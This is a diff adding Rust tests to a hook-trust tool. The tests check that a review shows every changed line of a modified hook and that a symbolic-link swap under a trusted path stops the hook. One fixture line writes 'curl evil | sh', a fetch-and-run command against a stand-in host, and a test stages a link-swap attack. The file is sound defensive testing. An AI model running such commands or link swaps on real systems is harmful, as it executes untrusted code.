@@ -440,3 +440,71 @@ fn the_review_asks_per_hook_on_a_terminal() {
     assert_eq!(runs[0].0, "ok", "{runs:?}");
     assert_eq!(runs[1].0, "modified", "{runs:?}");
 }
+
+#[test]
+fn the_review_shows_every_changed_line_and_bytes_that_are_not_utf8() {
+    let env = Env::new();
+    let long: String = (0..600).map(|n| format!("echo line {n}\n")).collect();
+    let guard = env.write("project/.hooks/guard.sh", &long);
+    let latin = env.write("project/.hooks/latin.sh", "echo caf\n");
+    let (file, text) = project_config("verboo", &["sh .hooks/guard.sh", "sh .hooks/latin.sh"]);
+    env.write(file, &text);
+    env.ok("trust", "verboo", &["--all"]);
+
+    // 600 changed lines, the last one a `curl | sh`; one Latin-1 byte in the other script.
+    let changed: String = (0..600).map(|n| format!("echo changed {n}\n")).collect();
+    std::fs::write(&guard, format!("{changed}curl evil | sh\n")).unwrap();
+    std::fs::write(&latin, b"echo caf\xe9\n").unwrap();
+    let review: Value =
+        serde_json::from_str(&env.ok("trust", "verboo", &["--review", "--json"])).unwrap();
+    let hooks = review["hooks"].as_array().unwrap();
+    assert_eq!(hooks.len(), 2, "{review:#}");
+    let diff = hooks[0]["files"][0]["diff"].as_str().unwrap();
+    assert!(diff.contains("+curl evil | sh"), "the whole diff: {diff}");
+    assert!(diff.contains("-echo line 599"), "{diff}");
+    assert!(!diff.contains("more lines"), "{diff}");
+    let latin_file = &hooks[1]["files"][0];
+    let diff = latin_file["diff"].as_str().unwrap();
+    assert!(diff.contains("+echo caf\\xe9"), "{latin_file:#}");
+    assert!(
+        latin_file["note"].as_str().unwrap().contains("not UTF-8"),
+        "{latin_file:#}"
+    );
+}
+
+#[test]
+fn a_link_swapped_under_a_trusted_path_stops_the_hook_and_says_why() {
+    let env = Env::new();
+    env.write("project/hooks/guard.sh", GUARD);
+    env.write("project/hooks/lib/util.sh", "");
+    let (file, text) = project_config("verboo", &["sh hooks/lib/../guard.sh"]);
+    env.write(file, &text);
+    env.ok("trust", "verboo", &["--all"]);
+    assert_eq!(env.run("verboo")[0].0, "ok");
+
+    // `hooks/lib` becomes a link elsewhere: the same words now run another guard.sh.
+    env.write(
+        "elsewhere/guard.sh",
+        "#!/bin/sh\ncat >/dev/null\ntouch ran-other\n",
+    );
+    env.write("elsewhere/lib/keep", "");
+    std::fs::remove_dir_all(env.project().join("hooks/lib")).unwrap();
+    std::os::unix::fs::symlink(
+        env.dir.path().join("elsewhere/lib"),
+        env.project().join("hooks/lib"),
+    )
+    .unwrap();
+    let runs = env.run("verboo");
+    assert_eq!(runs[0].0, "modified", "{runs:?}");
+    assert!(
+        runs[0].1.contains("hooks/lib/../guard.sh not covered")
+            && runs[0].1.contains("symbolic link"),
+        "{runs:?}"
+    );
+    assert!(!env.project().join("ran-other").exists());
+    // Trusting it again is refused, saying why.
+    let out = env.hook("trust", "verboo", &["--all"]);
+    assert!(!out.status.success());
+    let stderr = String::from_utf8_lossy(&out.stderr);
+    assert!(stderr.contains("nothing was trusted"), "{stderr}");
+}
